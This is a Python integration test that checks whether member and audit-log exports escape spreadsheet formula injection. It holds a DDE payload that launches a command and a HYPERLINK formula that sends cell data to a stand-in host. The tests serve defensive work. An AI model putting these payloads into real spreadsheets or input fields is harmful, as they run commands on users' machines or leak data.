"""No cell of an export runs as a formula (issue 10): member lists (CSV and XLSX) and
the audit-log CSV quote text that starts with = + - @ TAB or CR."""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook

from tests.conftest import person
from tests.integration.conftest import Server
from tests.integration.desk import Desk

CALC = "+1+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'


def test_member_exports_quote_formula_like_names(server: Server) -> None:
    token = server.pair()
    results = server.push_results(
        token, [person(1, name=CALC), person(2, name=LINK), person(3, name="Lalu Biasa")]
    )
    assert {r.outcome for r in results.values()} == {"created"}
    desk = Desk(server)

    r = desk.post("/desk/exports/members", {"fmt": "csv"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))[1:]
    names = {row[2] for row in rows}
    assert names == {"'" + CALC, "'" + LINK, "Lalu Biasa"}
    assert {row[8] for row in rows} == {"081234567890"}  # phones untouched

    r = desk.post("/desk/exports/members", {"fmt": "xlsx"})
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = [row[2] for row in ws.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {"'" + CALC, "'" + LINK, "Lalu Biasa"}
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula


def test_the_audit_csv_quotes_typed_text(server: Server) -> None:
    desk = Desk(server)
    r = desk.post("/desk/devices/pair", {"label": "=2+3"})
    assert r.status_code == 200
    server.pair()
    r = desk.post("/desk/devices/1/revoke", {"reason": LINK})
    assert r.status_code == 303
    # An anonymous visitor's "name" lands in the log too (a failed pairing's device name).
    httpx.post(
        server.url + "/api/v1/devices/pair",
        json={"code": "AAAA-BBBB", "device_name": "@SUM(1)", "officer": "-1+1"},
    )
    r = desk.get("/desk/audit.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=2+3" in cells and "'" + LINK in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell
